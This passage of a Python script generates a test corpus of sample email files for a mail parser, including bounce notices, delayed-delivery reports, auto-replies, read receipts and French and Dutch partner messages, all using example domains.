To: <absent@destinataire.example.net>
Subject: =?utf-8?q?Lettre_d=27information_n=C2=B042?=
Date: Mon, 9 Nov 2026 08:44:58 +0000
Message-ID: <newsletter-42-def@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"

(corps du message)

--85b7bf52-38e3-4a4b-bc38-3e0c7c26a1e9--
"""
    )


def m14_qmail_bounce() -> bytes:
    return crlf(
        """Return-Path: <>
Delivered-To: bounces+VERPTOKEN@example.org
Date: 9 Nov 2026 09:02:41 -0000
From: MAILER-DAEMON@mail.hebergeur.example.com
To: bounces+VERPTOKEN@example.org
Subject: failure notice
Message-ID: <qmail-bounce-0001@mail.hebergeur.example.com>

Hi. This is the qmail-send program at mail.hebergeur.example.com.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<absent@destinataire.example.net>:
198.51.100.25 does not like recipient.
Remote host said: 550 5.1.1 <absent@destinataire.example.net>: Recipient address rejected:\
 User unknown
Giving up on 198.51.100.25.

--- Below this line is a copy of the message.

Return-Path: <bounces+VERPTOKEN@example.org>
From: Coordination sociale <news@example.org>
To: absent@destinataire.example.net
Subject: Lettre d'information
"""
    )


def m15_exim_text_bounce() -> bytes:
    return crlf(
        """Return-path: <>
Envelope-to: bounces+VERPTOKEN@example.org
Delivery-date: Mon, 09 Nov 2026 10:15:00 +0100
From: Mail Delivery System <Mailer-Daemon@relais.example.net>
To: bounces+VERPTOKEN@example.org
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1tAbCd-000123-Xy@relais.example.net>
Date: Mon, 09 Nov 2026 10:15:00 +0100
Auto-Submitted: auto-replied

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  absent@destinataire.example.net
    host mx.destinataire.example.net [198.51.100.9]
    SMTP error from remote mail server after RCPT TO:<absent@destinataire.example.net>:
    552 5.2.2 Mailbox full

------ This is a copy of the message, including all the headers. ------

Return-path: <bounces+VERPTOKEN@example.org>
From: Coordination sociale <news@example.org>
To: absent@destinataire.example.net
Subject: Lettre d'information
"""
    )


def m16_dsn_delayed() -> bytes:
    return crlf(
        """Return-Path: <>
Delivered-To: bounces+VERPTOKEN@example.org
Date: Mon,  9 Nov 2026 14:30:12 +0100 (CET)
From: MAILER-DAEMON@mx.coordination.example.org (Mail Delivery System)
Subject: Delayed Mail (still being retried)
To: bounces+VERPTOKEN@example.org
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="5Zc9D8E7F6.1762695012/mx.coordination.example.org"
Message-Id: <20261109133012.5Zc9D8E7F7@mx.coordination.example.org>

--5Zc9D8E7F6.1762695012/mx.coordination.example.org
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.coordination.example.org.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 4 hour(s).
It will be retried until it is 5 day(s) old.

<lent@destinataire.example.net>: connect to mx.destinataire.example.net[198.51.100.7]:25:
    Connection timed out

--5Zc9D8E7F6.1762695012/mx.coordination.example.org
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.coordination.example.org

Final-Recipient: rfc822; lent@destinataire.example.net
Action: delayed
Status: 4.4.1
Diagnostic-Code: X-Postfix; connect to mx.destinataire.example.net[198.51.100.7]:25:
    Connection timed out
Will-Retry-Until: Sat, 14 Nov 2026 09:30:10 +0100 (CET)

--5Zc9D8E7F6.1762695012/mx.coordination.example.org--
"""
    )


def m17_oof_to_bounce_address() -> bytes:
    return crlf(
        """Return-Path: <>
Delivered-To: bounces+VERPTOKEN@example.org
From: Gemeenschapscentrum Voorbeeld <onthaal@gc-voorbeeld.example.net>
To: <bounces+VERPTOKEN@example.org>
Subject: Automatisch antwoord: Lettre d'information / Nieuwsbrief
Date: Mon, 9 Nov 2026 09:31:00 +0100
Message-ID: <oof-0001@gc-voorbeeld.example.net>
Auto-Submitted: auto-replied
X-MS-Exchange-Inbox-Rules-Loop: onthaal@gc-voorbeeld.example.net
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"

Ik ben afwezig tot 20 november. Voor dringende zaken: bel het onthaal.
"""
    )


SP = " "  # a trailing space: format=flowed soft breaks and the "-- " signature line


def m18_duplicate() -> bytes:
    return crlf(
        f"""From: ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: =?utf-8?Q?Permanence_juridique_gratuite_=E2=80=93_nouveaux_horaires?=
Date: Tue, 10 Nov 2026 09:00:00 +0100
Message-ID: <permanence-juridique-2026@asbl-soleil.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 8bit

À partir du 1er décembre, la permanence juridique gratuite a lieu le mardi{SP}
de 14h à 17h et le jeudi de 9h à 12h, sans rendez-vous.

--{SP}
ASBL Le Soleil
"""
    )


def m19_reply_quoted_nl() -> bytes:
    body = (
        "Dag,\n\nGraag nemen we deze oproep op: we zoeken vrijwilligers voor de "
        "voedselbedeling op woensdag (9u-12u). Interesse? Mail naar "
        "vrijwilligers@buurthuis-noord.example.net.\n\n"
        "Groeten,\nBuurthuis Noord\n\n"
        "Op di 1 dec. 2026 om 10:00 schreef Coordination sociale <news@example.org>:\n"
        "> Beste partners,\n>\n> Stuur ons jullie nieuws voor de nieuwsbrief van december.\n"
        ">\n> Met vriendelijke groeten,\n> De coördinatie\n"
    )
    return crlf(
        f"""From: Buurthuis Noord <{KNOWN_NL}>
To: {SUBMISSIONS}
Subject: Re: Nieuwsbrief december: stuur uw nieuws
In-Reply-To: <call-for-news-12@example.org>
References: <call-for-news-12@example.org>
Date: Wed, 2 Dec 2026 08:10:00 +0100
Message-ID: <reply-0001@buurthuis-noord.example.net>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit

"""
    ) + body.replace("\n", "\r\n").encode("utf-8")


def m20_unknown_sender_latin1() -> bytes:
    text = (
        "Bonjour,\n\nNotre collectif organise une bourse aux vêtements d'hiver le samedi "
        "28 novembre, de 10h à 15h, à la maison de quartier (entrée libre).\n\n"
        "Merci de l'annoncer à vos membres.\n\nLe collectif\n"
    )
    return crlf(
        f"""From: Collectif Inconnu <{UNKNOWN}>
To: {SUBMISSIONS}
Subject: =?ISO-8859-1?Q?Bourse_aux_v=EAtements_d'hiver?=
Date: Wed, 11 Nov 2026 18:40:00 +0100
Message-ID: <bourse-vetements@collectif-inconnu.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

{qp(text, "latin-1")}"""
    )


def m21_mailing_list() -> bytes:
    return crlf(
        f"""From: Infolettre ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: =?utf-8?Q?Infolettre_de_novembre_:_nos_activit=C3=A9s?=
Date: Thu, 12 Nov 2026 07:00:00 +0100
Message-ID: <infolettre-novembre.1234@envoi.asbl-soleil.example.org>
List-Id: "Infolettre du Soleil" <infolettre.asbl-soleil.example.org>
List-Unsubscribe: <https://asbl-soleil.example.org/desinscription?u=abc>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Nos activités de novembre : atelier CV le 17, repas de quartier le 24.
"""
    )


def m22_no_sender() -> bytes:
    return crlf(
        f"""From: undisclosed-recipients:;
To: {SUBMISSIONS}
Subject: Annonce
Date: Thu, 12 Nov 2026 08:00:00 +0100
Message-ID: <no-sender-0001@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Une annonce sans expéditeur.
"""
    )


def m23_read_receipt() -> bytes:
    return crlf(
        """From: Buurthuis Noord <info@buurthuis-noord.example.net>
To: <news@example.org>
Subject: Gelezen: Lettre d'information / Nieuwsbrief
Date: Tue, 10 Nov 2026 08:05:00 +0100
Message-ID: <mdn-0001@buurthuis-noord.example.net>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification;
\tboundary="----=_NextPart_mdn_0001"

------=_NextPart_mdn_0001
Content-Type: text/plain; charset="utf-8"

Uw bericht

  Aan: info@buurthuis-noord.example.net
  Onderwerp: Lettre d'information / Nieuwsbrief

werd gelezen op dinsdag 10 november 2026 08:05:00.

------=_NextPart_mdn_0001
Content-Type: message/disposition-notification

Reporting-UA: buurthuis-noord.example.net; Microsoft Outlook 16.0
Final-Recipient: rfc822;info@buurthuis-noord.example.net
Original-Message-ID: <issue-42.7.0123456789ab@example.org>
Disposition: manual-action/MDN-sent-manually; displayed

------=_NextPart_mdn_0001--
"""
    )


CORPUS = {
    "01-outlook-cp1252-related.eml": m01_outlook_cp1252,
    "02-outlook-html-only-undeclared.eml": m02_outlook_html_only,
    "03-gmail-forward-inline.eml": m03_gmail_forward,
    "04-forward-as-attachment.eml": m04_forward_as_attachment,
    "05-outlook-forward-fr.eml": m05_outlook_forward_fr,
    "06-attachment-names.eml": m06_attachment_names,
    "07-html-scripts.eml": m07_html_scripts,
    "08-header-injection.eml": m08_header_injection,
    "09-malformed-boundary.eml": m09_malformed_boundary,
    "10-truncated-mime.eml": m10_truncated_mime,
    "11-auto-reply.eml": m11_auto_reply,
    "12-dsn-postfix.eml": m12_dsn_postfix,
    "13-ndr-exchange.eml": m13_ndr_exchange,
    "14-qmail-bounce.eml": m14_qmail_bounce,
    "15-exim-text-bounce.eml": m15_exim_text_bounce,
    "16-dsn-delayed.eml": m16_dsn_delayed,
    "17-oof-to-bounce-address.eml": m17_oof_to_bounce_address,
    "18-duplicate.eml": m18_duplicate,
    "19-reply-quoted-nl.eml": m19_reply_quoted_nl,
    "20-unknown-sender-latin1.eml": m20_unknown_sender_latin1,
    "21-mailing-list.eml": m21_mailing_list,
    "22-no-sender.eml": m22_no_sender,
    "23-read-receipt.eml": m23_read_receipt,
}


def huge_message(size: int, *, attachment_name: str = "rapport-annuel.pdf") -> bytes:
    """A partner message of about ``size`` bytes: one big PDF attachment (not committed)."""
    payload = pdf("Rapport annuel") + b"%" + b"0" * max(0, size * 3 // 4 - 1500) + b"\n%%EOF\n"
    return (
        crlf(
            f"""From: ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: Rapport annuel 2026
Date: Fri, 13 Nov 2026 09:00:00 +0100
Message-ID: <huge-{size}@asbl-soleil.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="huge"

--huge
Content-Type: text/plain; charset=utf-8

Voici notre rapport annuel.

--huge
Content-Type: application/pdf; name="{attachment_name}"
Content-Disposition: attachment; filename="{attachment_name}"
Content-Transfer-Encoding: base64

"""
        )
        + base64.encodebytes(payload).replace(b"\n", b"\r\n")
        + b"--huge--\r\n"
    )


def main() -> None:
    for name, build in CORPUS.items():
        (HERE / name).write_bytes(build())
    print(f"{len(CORPUS)} messages written to {HERE}")


if __name__ == "__main__":
    main()
